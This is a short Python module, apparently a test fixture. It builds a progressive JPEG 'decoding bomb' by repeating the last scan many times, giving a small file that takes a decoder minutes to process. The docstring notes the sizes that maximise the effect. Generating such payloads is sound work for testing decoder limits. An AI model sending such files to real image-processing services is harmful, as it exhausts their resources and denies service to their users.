"""Hostile images built in memory: a progressive JPEG whose scans repeat (a decoding bomb)."""

from __future__ import annotations

import io

from PIL import Image

SOS = b"\xff\xda"  # start of scan
EOI = b"\xff\xd9"  # end of image


def _segments_end(data: bytes, start: int) -> int:
    """Where the entropy-coded data after the SOS header at `start` ends (the next marker)."""
    header = int.from_bytes(data[start + 2 : start + 4], "big")
    i = start + 2 + header
    while True:
        i = data.index(b"\xff", i)
        if data[i + 1] == 0 or 0xD0 <= data[i + 1] <= 0xD7:  # stuffed byte or restart marker
            i += 2
            continue
        return i


def progressive_jpeg_bomb(width: int = 64, height: int = 64, scans: int = 200) -> bytes:
    """A flat grey progressive JPEG whose last scan is repeated until it has `scans` scans.

    Small on disk (a repeated flat scan costs a few bytes), yet the decoder works through
    every scan over the whole picture: at 6000×6000 and tens of thousands of scans, minutes.
    """
    out = io.BytesIO()
    Image.new("L", (width, height), 200).save(out, "JPEG", progressive=True, quality=90)
    data = out.getvalue()
    starts = [i for i in range(len(data) - 1) if data[i : i + 2] == SOS]
    last = starts[-1]
    scan = data[last : _segments_end(data, last)]
    extra = max(0, scans - len(starts))
    body = data[: data.rindex(EOI)]
    return body + scan * extra + EOI


def scan_count(data: bytes) -> int:
    return data.count(SOS)
